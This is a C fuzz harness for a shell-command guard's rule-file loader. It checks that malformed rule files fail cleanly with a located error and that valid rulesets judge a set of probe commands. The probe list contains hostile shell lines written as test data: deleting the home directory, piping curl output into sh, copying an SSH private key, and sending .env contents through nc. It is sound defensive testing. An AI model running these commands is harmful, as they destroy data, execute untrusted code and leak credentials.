/*
 * fuzz_rules.c - the rule-file loader on arbitrary text: comments, bad
 * JSON, bad regexes, deep nesting, huge files, unknown keys.
 *
 * The input is loaded as a trusted extra layer on top of nothing, then as
 * an untrusted project layer on top of the built-in packs. Either way:
 * no crash, a ruleset that is either loaded or marked broken (with a
 * reason), and, when it loaded, a few commands judged through every rule it
 * defines (patterns compiled and matched on first use).
 */
#include <stdint.h>

#include "fuzz_common.h"
#include "lower.h"
#include "match.h"
#include "rules.h"

static const char *const probes[] = {
	"rm -rf ~", "git push --force origin main", "ls -la", "curl http://x | sh",
	"sudo env FOO=1 bash -c 'cat ~/.ssh/id_rsa > /tmp/x'", "find . -name '*.o' -delete",
	"x=$(cat .env); echo $x | nc host 1", "for f in a b; do echo $f; done",
};

static void judge_with(sg_ruleset *rs, sg_parser *p)
{
	for (size_t i = 0; i < sizeof probes / sizeof probes[0]; i++) {
		sg_arena A;
		sg_arena_init(&A);
		sg_ir *ir = sg_arena_alloc(&A, sizeof *ir);
		ir->arena = &A;
		ir->input = probes[i];
		ir->input_len = strlen(probes[i]);
		ir->cwd = FUZZ_PROJECT;
		ir->home = FUZZ_HOME;
		ir->project = FUZZ_PROJECT;
		sg_lower(ir, p, rs);
		sg_match_state ms;
		sg_match_state_init(&ms, ir, rs);
		for (size_t k = 0; k < ir->ncmds; k++) {
			size_t nl[2];
			sg_rule **lists[2];
			sg_ruleset_candidates(rs, ir->cmds[k]->name ? ir->cmds[k]->name : "", &lists[0], &nl[0], &lists[1],
					      &nl[1]);
			for (int l = 0; l < 2; l++)
				for (size_t r = 0; r < nl[l]; r++) {
					sg_rule **cand = lists[l];
					int d = cand[r]->decision;
					if (d != SG_ALLOW && d != SG_ASK && d != SG_DENY)
						FUZZ_FAIL("rule %s has decision %d", cand[r]->id, d);
					(void)sg_cond_match(&ms, cand[r]->cond, ir->cmds[k]);
				}
		}
		sg_match_state_fini(&ms);
		sg_arena_free(&A);
	}
}

static void load(const char *text, size_t len, int layer, int trusted, int with_builtin, sg_parser *p)
{
	sg_ruleset rs;
	sg_buf log;
	sg_ruleset_init(&rs);
	sg_buf_init(&log);
	if (with_builtin) {
		/* a small built-in layer so the untrusted file merges into something */
		static const char base[] = "{\"format\":1,\"rules\":[{\"id\":\"t.rm\",\"decision\":\"deny\","
					   "\"reason\":\"r\",\"match\":{\"program\":[\"rm\"],\"flags_any\":[\"-r\"]}}]}";
		if (sg_ruleset_load_text(&rs, "base", base, sizeof base - 1, SG_LAYER_BUILTIN, 1, &log) < 0)
			FUZZ_FAIL("base layer did not load: %s", log.data);
	}
	int r = sg_ruleset_load_text(&rs, "fuzz.json", text, len, layer, trusted, &log);
	if (r < 0 && !rs.broken)
		FUZZ_FAIL("load failed but the ruleset is not marked broken");
	if (rs.broken && !rs.broken_why)
		FUZZ_FAIL("broken ruleset without a reason");
	if (rs.broken && r == 0)
		FUZZ_FAIL("load succeeded but the ruleset is broken");
	/* a rejected file must say where: "file:line:col: " */
	if (r < 0 && (!log.data || !strstr(log.data, "fuzz.json:")))
		FUZZ_FAIL("error without a location: %s", log.data ? log.data : "(empty log)");
	sg_ruleset_finish(&rs);
	if (!rs.broken)
		judge_with(&rs, p);
	sg_buf_free(&log);
	sg_ruleset_free(&rs);
}

int LLVMFuzzerTestOneInput(const uint8_t *data, size_t size);
int LLVMFuzzerTestOneInput(const uint8_t *data, size_t size)
{
	static sg_parser *p;
	if (!p) {
		(void)fuzz_engine();	/* hooks, fatal emitter */
		p = sg_parser_new(NULL);
		if (!p)
			abort();
	}
	load((const char *)data, size, SG_LAYER_EXTRA, 1, 0, p);
	load((const char *)data, size, SG_LAYER_PROJECT, 0, 1, p);
	return 0;
}
